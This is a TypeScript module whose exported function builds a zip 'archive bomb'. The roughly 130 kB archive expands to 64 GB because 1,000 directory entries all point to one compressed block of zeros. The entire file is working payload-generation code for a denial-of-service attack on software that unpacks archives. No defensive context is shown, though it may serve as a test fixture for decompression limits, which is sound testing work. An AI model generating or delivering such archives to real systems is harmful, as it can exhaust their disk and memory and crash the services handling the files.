import { crc32, deflateRawSync } from 'node:zlib';

/** Bytes that one entry expands to, and the number of entries; together 64 GB. */
const entry = 64 * 1024 * 1024;
const entries = 1000;

/**
 * Returns a zip archive of about 130 kB that expands to 64 GB: all entries of its directory point to the same compressed
 * data.
 */
export function archiveBomb(): Buffer {
  const zeros = Buffer.alloc(entry);
  const compressed = deflateRawSync(zeros, { level: 9 });
  const facts = Buffer.alloc(12);
  facts.writeUInt32LE(crc32(zeros), 0);
  facts.writeUInt32LE(compressed.length, 4);
  facts.writeUInt32LE(entry, 8);
  const name = Buffer.from('0.txt');
  const local = Buffer.concat([
    bytes('504b0304140000000800000000000'.padEnd(28, '0')),
    facts,
    lengths(name.length),
    name,
  ]);
  const one = directoryEntry(facts, name);
  const directory = Buffer.concat(Array.from({ length: entries }, () => one));
  const end = Buffer.alloc(22);
  end.write('504b0506', 'hex');
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + compressed.length, 16);
  return Buffer.concat([local, compressed, directory, end]);
}

const bytes = (hex: string): Buffer => Buffer.from(hex, 'hex');

function lengths(name: number): Buffer {
  const both = Buffer.alloc(4);
  both.writeUInt16LE(name, 0);
  return both;
}

function directoryEntry(facts: Buffer, name: Buffer): Buffer {
  const head = Buffer.alloc(46);
  head.write('504b010214001400000008', 'hex');
  facts.copy(head, 16);
  head.writeUInt16LE(name.length, 28);
  return Buffer.concat([head, name]);
}
